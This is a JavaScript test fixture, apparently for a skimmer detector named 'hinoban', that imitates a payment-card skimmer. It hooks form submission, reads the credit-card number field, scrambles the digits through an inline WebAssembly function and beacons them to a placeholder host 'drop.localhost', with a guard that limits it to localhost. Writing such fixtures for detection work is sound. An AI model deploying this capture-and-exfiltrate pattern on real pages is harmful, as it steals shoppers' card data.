/* Harmless imitation, for hinoban's tests: the writing is made in WebAssembly. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 7, 1, 96, 2, 127, 127, 1, 127, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0,
	10, 15, 1, 13, 0, 32, 0, 65, 7, 108, 32, 1, 106, 65, 10, 112, 11])).then(function (m) {
	document.addEventListener('submit', function (e) {
		var n = e.target.querySelector('input[autocomplete=cc-number]');
		if (n) navigator.sendBeacon('http://drop.localhost:' + location.port + '/c', n.value.split('').map(function (c, i) { return 'hjkmnpqrst'[m.instance.exports.f(+c, i)]; }).join(''));
	}, true);
});
